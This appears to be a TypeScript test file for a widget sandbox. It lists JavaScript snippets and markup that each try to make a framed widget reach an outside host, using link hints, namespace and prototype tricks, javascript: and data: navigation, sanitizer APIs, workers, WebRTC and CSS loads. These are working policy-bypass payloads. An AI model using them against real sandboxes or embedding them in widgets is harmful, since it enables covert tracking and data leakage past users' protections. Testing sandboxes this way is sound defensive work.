/**
 * Attempts of a widget to reach another computer, each in a separate frame. `host(name)` creates an address, and a lookup of `name`
 * identifies the attempt.
 */

/** Ways to create an element that leads to another host whatever the policy says. */
export const elementAttempts: Record<string, string> = {
  relations: `for (const rel of ["preconnect", "dns-prefetch", "prefetch", "preload", "stylesheet"]) { const l = document.createElement("link"); l.rel = rel; l.href = host(rel); l.as = "image"; document.head.append(l) }`,
  tampered: `String.prototype.toLowerCase = () => "p"; String.prototype.indexOf = () => -1; String.prototype.startsWith = () => false; RegExp.prototype.exec = () => null; Array.prototype.includes = () => false; Reflect.apply = () => null; Function.prototype.call = () => null; const l = document.createElement("link"); l.rel = "preconnect"; l.href = host("tampered"); document.body.append(l)`,
  linkNS: `const l = document.createElementNS("http://www.w3.org/1999/xhtml","link"); l.setAttribute("rel","preconnect"); l.setAttribute("href",host("linkns")); document.head.append(l)`,
  linkNSPrefixed: `const l = document.createElementNS("http://www.w3.org/1999/xhtml","x:link"); l.setAttribute("rel","preconnect"); l.setAttribute("href",host("linknsp")); document.head.append(l)`,
  linkNSOddPrefix: `const l = document.createElementNS("http://www.w3.org/1999/xhtml","a<b:link"); l.setAttribute("rel","preconnect"); l.setAttribute("href",host("linknsodd")); document.head.append(l)`,
  linkNSUnprintable: `const l = document.createElementNS("http://www.w3.org/1999/xhtml","a\\u0002b:link"); l.setAttribute("rel","preconnect"); l.setAttribute("href",host("linknsunprintable")); document.head.append(l)`,
  metaNSOddPrefix: `const m = document.createElementNS("http://www.w3.org/1999/xhtml","a<b:meta"); m.httpEquiv="refresh"; m.content="0;url="+host("metansodd"); document.head.append(m)`,
  frameNSOddPrefix: `const f = document.createElementNS("http://www.w3.org/1999/xhtml","a<b:iframe"); document.body.append(f)`,
  createDocumentOddPrefix: `const d=document.implementation.createDocument("http://www.w3.org/1999/xhtml","a<b:link"); const l=document.adoptNode(d.documentElement); l.setAttribute("rel","preconnect"); l.setAttribute("href",host("createdocumentodd")); document.body.append(l)`,
  linkUpper: `const l = document.createElement("LINK"); l.setAttribute("rel","preconnect"); l.setAttribute("href",host("linkupper")); document.head.append(l)`,
  linkObject: `let n=0; const l = document.createElement({toString(){ return n++ ? "link" : "p" }}); l.setAttribute("rel","preconnect"); l.setAttribute("href",host("linkobject")); document.head.append(l)`,
  linkObject2: `let n=0; const l = document.createElementNS({toString(){ return "http://www.w3.org/1999/xhtml" }}, {toString(){ return n++ ? "link" : "p" }}); l.setAttribute("rel","preconnect"); l.setAttribute("href",host("linkobject2")); document.head.append(l)`,
  innerHTML: `document.body.innerHTML = '<link rel=preconnect href="'+host("innerhtml")+'">'`,
  insertAdjacent: `document.body.insertAdjacentHTML("beforeend", '<link rel=preconnect href="'+host("insertadj")+'">')`,
  outer: `const p = document.createElement("p"); document.body.append(p); p.outerHTML='<link/rel=preconnect href="'+host("outer")+'">'`,
  template: `const t = document.createElement("template"); t.innerHTML='<link rel=preconnect href="'+host("template")+'">'; document.body.append(t.content)`,
  shadow: `document.body.attachShadow({mode:"open"}).innerHTML='<link rel=preconnect href="'+host("shadow")+'">'`,
  fragment: `document.body.append(document.createRange().createContextualFragment('<link rel=preconnect href="'+host("fragment")+'">'))`,
  domparser: `document.body.append(document.adoptNode(new DOMParser().parseFromString('<link rel=preconnect href="'+host("domparser")+'">',"text/html").querySelector("link")))`,
  xmlparser: `document.body.append(document.adoptNode(new DOMParser().parseFromString('<x:link xmlns:x="http://www.w3.org/1999/xhtml" rel="preconnect" href="'+host("xmlparser")+'"/>',"text/xml").documentElement))`,
  xmlentity: `document.body.append(document.adoptNode(new DOMParser().parseFromString('<!DOCTYPE d [<!ENTITY e "&#60;link xmlns=\\'http://www.w3.org/1999/xhtml\\' rel=\\'preconnect\\' href=\\''+host("xmlentity")+'\\'/>">]><d>&e;</d>',"text/xml").documentElement))`,
  setHTML: `document.body.setHTML('<link rel=preconnect href="'+host("sethtml")+'">', {sanitizer: {}})`,
  setHTML2: `document.body.setHTML('<link rel=preconnect href="'+host("sethtml2")+'">', {sanitizer: {elements:["link","body"], attributes:["rel","href"]}})`,
  setHTML3: `const s=document.body.attachShadow({mode:"open"}); s.setHTML('<link rel=preconnect href="'+host("sethtml3")+'">', {sanitizer: {elements:["link"], attributes:["rel","href"]}})`,
  parseHTML: `const d=Document.parseHTML('<link rel=preconnect href="'+host("parsehtml")+'">', {sanitizer: {elements:["link","html","head","body"], attributes:["rel","href"]}}); document.body.append(document.adoptNode(d.querySelector("link")))`,
  setHTMLUnsafe: `document.body.setHTMLUnsafe('<link rel=preconnect href="'+host("sethtmlunsafe")+'">')`,
  createDocument: `const d=document.implementation.createDocument("http://www.w3.org/1999/xhtml","link"); const l=document.adoptNode(d.documentElement); l.setAttribute("rel","preconnect"); l.setAttribute("href",host("createdocument")); document.body.append(l)`,
  otherDocument: `const d=document.implementation.createHTMLDocument(); const l=d.createElement("link"); l.setAttribute("rel","preconnect"); l.setAttribute("href",host("otherdocument")); document.body.append(document.adoptNode(l))`,
  newDocument: `const l=new Document().createElementNS("http://www.w3.org/1999/xhtml","link"); l.setAttribute("rel","preconnect"); l.setAttribute("href",host("newdocument")); document.body.append(document.adoptNode(l))`,
  custom: `class L extends HTMLLinkElement {}; customElements.define("x-l", L, {extends:"link"}); const l=new L(); l.rel="preconnect"; l.href=host("custom"); document.body.append(l)`,
  custom2: `class L extends HTMLLinkElement {}; new CustomElementRegistry().define("x-l", L, {extends:"link"}); const l=new L(); l.rel="preconnect"; l.href=host("custom2"); document.body.append(l)`,
  execCommand: `document.body.contentEditable=true; document.body.focus(); document.execCommand("selectAll"); document.execCommand("insertHTML", false, '<link rel=preconnect href="'+host("exec")+'">')`,
  patched: `Document.prototype.createElement.call(document,"link"); const l=Reflect.apply(Document.prototype.createElement,document,["link"]); l.rel="preconnect"; l.href=host("patched"); document.body.append(l)`,
  deleted: `delete document.createElement; delete Document.prototype.createElement; const l=document.createElement("link"); l.rel="preconnect"; l.href=host("deleted"); document.body.append(l)`,
  metaDns: `const m=document.createElement("meta"); m.httpEquiv="x-dns-prefetch-control"; m.content="on"; document.head.append(m); const a=document.createElement("a"); a.href=host("metadns"); a.textContent="x"; document.body.append(a); a.focus()`,
  base: `const b=document.createElement("base"); b.href=host("base"); document.head.append(b); const i=new Image(); i.src="x"`,
}

/** Requests that a browser makes by itself, with a policy's permission, or before it blocks them. */
export const otherAttempts: Record<string, string> = {
  frames: `for (const name of ["iframe", "frame", "object", "embed", "fencedframe", "portal"]) { const f = document.createElement(name); try { f.src = host("frame-" + name); f.data = host("frame-" + name) } catch {} document.body.append(f) }`,
  xmlentityframe: `const d = new DOMParser().parseFromString('<!DOCTYPE d [<!ENTITY e "&#60;iframe xmlns=\\'http://www.w3.org/1999/xhtml\\' srcdoc=\\'&lt;link rel=preconnect href='+host("xmlentityframe")+'>\\'/>">]><d>&e;</d>',"text/xml"); document.body.append(document.adoptNode(d.documentElement))`,
  xmldoctypedefault: `document.body.append(document.adoptNode(new DOMParser().parseFromString('<!DOCTYPE link [<!ATTLIST l xmlns CDATA "http://www.w3.org/1999/xhtml">]><l/>',"text/xml").documentElement))`,
  meta: `document.head.insertAdjacentHTML("beforeend", '<meta http-equiv=refresh content="0;url='+host("meta")+'">')`,
  metaCreated: `const m=document.createElement("meta"); m.httpEquiv="refresh"; m.content="0;url="+host("metacreated"); document.head.append(m)`,
  anchor: `document.body.innerHTML='<a style="position:fixed;inset:0" href="'+host("anchor")+'">x</a>'; document.querySelector("a").focus(); document.querySelector("a").dispatchEvent(new MouseEvent("mouseover",{bubbles:true})); document.querySelector("a").dispatchEvent(new PointerEvent("pointerdown",{bubbles:true}))`,
  anchorClick: `for (const t of ["_self","_top","_blank","_parent"]) { const a=document.createElement("a"); a.href=host("anchorclick"+t.slice(1)); a.target=t; a.ping=host("ping"+t.slice(1)); document.body.append(a); a.click() }`,
  anchorDownload: `const a=document.createElement("a"); a.href=host("download"); a.download="x"; document.body.append(a); a.click()`,
  svgAnchor: `document.body.innerHTML='<svg><a href="'+host("svga")+'"><text y="20">x</text></a><image href="'+host("svgimage")+'"/><use href="'+host("svguse")+'#a"/><feImage href="'+host("feimage")+'"/></svg>'; document.querySelector("svg a").dispatchEvent(new MouseEvent("click",{bubbles:true}))`,
  location: `location = host("location")`,
  locationJs: `location = "javascript:'<link rel=preconnect href="+host("locationjs")+">'"`,
  locationJs2: `location.href = "javascript:'<iframe srcdoc=\\"<link rel=preconnect href="+host("locationjs2")+">\\"></iframe>'"`,
  anchorJs: `const a=document.createElement("a"); a.href="javascript:'<link rel=preconnect href="+host("anchorjs")+">'"; document.body.append(a); a.click()`,
  formJs: `const f=document.createElement("form"); f.action="javascript:'<link rel=preconnect href="+host("formjs")+">'"; document.body.append(f); f.submit()`,
  windowOpenSelf: `open("javascript:'<link rel=preconnect href="+host("openjs")+">'", "_self")`,
  rtcAfterJs: `location = "javascript:'<script>try{const p=new RTCPeerConnection({iceServers:[{urls:\\"stun:"+new URL(host("rtcjs")).host+":3478\\"}]});p.createDataChannel(1);p.setLocalDescription()}catch{}</scr'+'ipt>'"`,
  dataNav: `location = "data:text/html,<link rel=preconnect href="+host("datanav")+">"`,
  blobNav: `location = URL.createObjectURL(new Blob(["<link rel=preconnect href="+host("blobnav")+">"],{type:"text/html"}))`,
  aboutOpen: `const w = open("about:blank"); w.document.write("<link rel=preconnect href="+host("aboutopen")+">")`,
  execImage: `document.body.contentEditable=true; document.body.focus(); document.execCommand("insertImage", false, host("execimage")); document.execCommand("createLink", false, host("execlink"))`,
  images: `new Image().src=host("image"); const v=document.createElement("video"); v.src=host("video"); v.poster=host("poster"); document.body.append(v); new Audio(host("audio")).play()`,
  css: `const s=document.createElement("style"); s.textContent='@import "'+host("cssimport")+'"; @font-face{font-family:x;src:url('+host("cssfont")+')} body{font-family:x;background:url('+host("cssbg")+');cursor:url('+host("csscursor")+'),auto; list-style-image:url('+host("csslist")+'); mask:url('+host("cssmask")+'#a)} @namespace url('+host("cssns")+');'; document.head.append(s); document.body.append("text")`,
  cssom: `const s=new CSSStyleSheet(); s.replaceSync('body{background:image-set(url('+host("cssom")+') 1x)}'); document.adoptedStyleSheets=[s]; new FontFace("y","url("+host("fontface")+")").load()`,
  paint: `CSS.paintWorklet?.addModule(host("paint")); new AudioContext().audioWorklet?.addModule(host("audioworklet"))`,
  fetches: `try{fetch(host("fetch"))}catch{}; try{navigator.sendBeacon(host("beacon"),"x")}catch{}; try{new WebSocket(host("ws").replace("https","wss"))}catch{}; try{new EventSource(host("es"))}catch{}; try{fetchLater(host("later"),{activateAfter:0})}catch{}; try{const r=new XMLHttpRequest();r.open("GET",host("xhr"));r.send()}catch{}`,
  wsStream: `new WebSocketStream(host("wsstream").replace("https","wss"))`,
  importing: `import(host("import")); const s=document.createElement("script"); s.type="importmap"; s.textContent=JSON.stringify({imports:{x:host("importmap")}}); document.head.append(s); const m=document.createElement("script"); m.type="module"; m.textContent='import "x"'; document.head.append(m)`,
  speculation: `for (const k of ["prefetch","prerender","prerender_until_script"]) { const s=document.createElement("script"); s.type="speculationrules"; s.textContent=JSON.stringify({[k]:[{source:"list",urls:[host("spec-"+k.replaceAll("_",""))],eagerness:"immediate"},{source:"list",urls:[host("specanon-"+k.replaceAll("_",""))],eagerness:"immediate",requires:["anonymous-client-ip-when-cross-origin"]}]}); document.head.append(s) }`,
  docRules: `document.body.innerHTML='<a href="'+host("docrules")+'">x</a>'; const s=document.createElement("script"); s.type="speculationrules"; s.textContent='{"prefetch":[{"where":{"href_matches":"https://*/*"},"eagerness":"immediate"}]}'; document.head.append(s)`,
  payment: `new PaymentRequest([{supportedMethods:host("payment")+"pay"}],{total:{label:"x",amount:{currency:"EUR",value:"1"}}}).canMakePayment()`,
  payment2: `new PaymentRequest([{supportedMethods:host("payment2")+"pay"}],{total:{label:"x",amount:{currency:"EUR",value:"1"}}}).show()`,
  fedcm: `navigator.credentials.get({identity:{providers:[{configURL:host("fedcm")+"c.json",clientId:"x"}]}})`,
  webauthn: `navigator.credentials.get({publicKey:{challenge:new Uint8Array(16),rpId:new URL(host("webauthn")).host}})`,
  notification: `new Notification("x",{icon:host("notification")})`,
  media: `navigator.mediaSession.metadata=new MediaMetadata({artwork:[{src:host("artwork")}]})`,
  attribution: `document.body.insertAdjacentHTML("beforeend",'<img attributionsrc="'+host("attr")+'" src="data:,"><a attributionsrc="'+host("attr2")+'" href="#">x</a>')`,
  topics: `document.browsingTopics?.(); navigator.joinAdInterestGroup?.({owner:new URL(host("adgroup")).origin,name:"x",biddingLogicURL:host("adgroup")},1); navigator.runAdAuction?.({seller:new URL(host("auction")).origin,decisionLogicURL:host("auction")+"x"})`,
  shared: `sharedStorage.createWorklet(host("sharedstorage"))`,
  token: `fetch(host("ptfetch"),{privateToken:{version:1,operation:"token-request"}})`,
  worker: `new Worker(URL.createObjectURL(new Blob(["fetch('"+host("worker")+"')"]))); new SharedWorker(host("sharedworker"))`,
  workerData: `new Worker("data:text/javascript,fetch('"+host("workerdata")+"')")`,
  sw: `navigator.serviceWorker.register(host("sw"))`,
  rtc: `const p=new RTCPeerConnection({iceServers:[{urls:"stun:"+new URL(host("rtc")).host+":3478"}]}); p.createDataChannel("x"); p.setLocalDescription()`,
  webtransport: `new WebTransport(host("webtransport"))`,
  srcdoc: `const f=document.createElement("iframe"); f.srcdoc='<link rel=preconnect href="'+host("srcdoc")+'">'; document.body.append(f)`,
  jsframe: `const f=document.createElement("iframe"); document.body.append(f); f.contentDocument.body.append(Object.assign(f.contentDocument.createElement("link"),{rel:"preconnect",href:host("jsframe")}))`,
  form: `const f=document.createElement("form"); f.action=host("form"); document.body.append(f); f.submit()`,
  formTarget: `const f=document.createElement("form"); f.action=host("formt"); f.target="_blank"; document.body.append(f); f.submit()`,
  navigation: `navigation.navigate(host("navigation"))`,
  history: `history.pushState(0,"",host("history"))`,
  parentNav: `parent.location=host("parent"); top.location=host("top")`,
  protocol: `navigator.registerProtocolHandler("web+x", host("protocol")+"?%s")`,
  share: `navigator.share({url:host("share")})`,
  mailto: `location="mailto:x@"+new URL(host("mailto")).host`,
  trackSource: `const v=document.createElement("video"); v.innerHTML='<source src="'+host("source")+'"><track default src="'+host("track")+'">'; document.body.append(v); const p=document.createElement("picture"); p.innerHTML='<source srcset="'+host("srcset")+' 1x"><img>'; document.body.append(p)`,
  input: `document.body.insertAdjacentHTML("beforeend",'<input type=image src="'+host("input")+'"><table background="'+host("tablebg")+'"><tr><td background="'+host("tdbg")+'">')`,
  bgsound: `document.body.background=host("bodybg"); document.body.insertAdjacentHTML("beforeend",'<body background="'+host("bodybg2")+'">')`,
  scriptSrc: `const s=document.createElement("script"); s.src=host("script"); document.head.append(s); const t=document.createElementNS("http://www.w3.org/2000/svg","script"); t.setAttribute("href",host("svgscript")); document.head.append(t)`,
  xslt: `const p=document.createProcessingInstruction("xml-stylesheet",'href="'+host("xmlpi")+'" type="text/css"'); document.insertBefore(p,document.documentElement)`,
  xmlpi: `const d=new DOMParser().parseFromString('<?xml-stylesheet href="'+host("xmlpi2")+'" type="text/css"?><!DOCTYPE a SYSTEM "'+host("dtd")+'"><a/>',"text/xml"); document.body.append(document.adoptNode(d.documentElement))`,
  xhrDoc: `const r=new XMLHttpRequest(); r.responseType="document"; r.open("GET","data:text/html,<link rel=preconnect href="+host("xhrdoc")+">"); r.onload=()=>document.body.append(document.adoptNode(r.response.querySelector("link"))); r.send()`,
  attrNode: `const i=document.createElement("img"); const a=document.createAttribute("src"); a.value=host("attrnode"); i.setAttributeNode(a)`,
  clipboard: `navigator.clipboard?.read?.()`,
  ai: `globalThis.LanguageModel?.create?.(); globalThis.Translator?.create?.({sourceLanguage:"en",targetLanguage:"it"}); globalThis.Summarizer?.create?.()`,
  eme: `navigator.requestMediaKeySystemAccess("com.widevine.alpha",[{initDataTypes:["cenc"],videoCapabilities:[{contentType:'video/mp4; codecs="avc1.42E01E"'}]}]).then(a=>a.createMediaKeys())`,
  remotePlayback: `const v=document.createElement("video"); v.src=host("remote"); v.remote.prompt()`,
  presentation: `new PresentationRequest(host("presentation")).start()`,
}

/** Markup that a widget may contain when it is parsed. */
export const parsedHints = `<link rel=preconnect href="https://parsed.widget.example/">
<!--><link rel=preconnect href=https://comment.widget.example/>-->
<noscript><link rel=preconnect href="https://noscript.widget.example/"></noscript>
<svg><style><link rel=preconnect href="https://svg.widget.example/"></style></svg>
<template shadowrootmode=open><link rel=preconnect href="https://declared.widget.example/"></template>
<select><link rel=preconnect href="https://select.widget.example/"></select>
<LINK
REL=preconnect href="https://upper.widget.example/">
<linkrel=preconnect href="https://formfeed.widget.example/">
<link/rel=dns-prefetch/href="https://slash.widget.example/">
<base href="https://base.widget.example/"><img src=x>
<meta http-equiv=refresh content="1;url=https://refresh.widget.example/">`
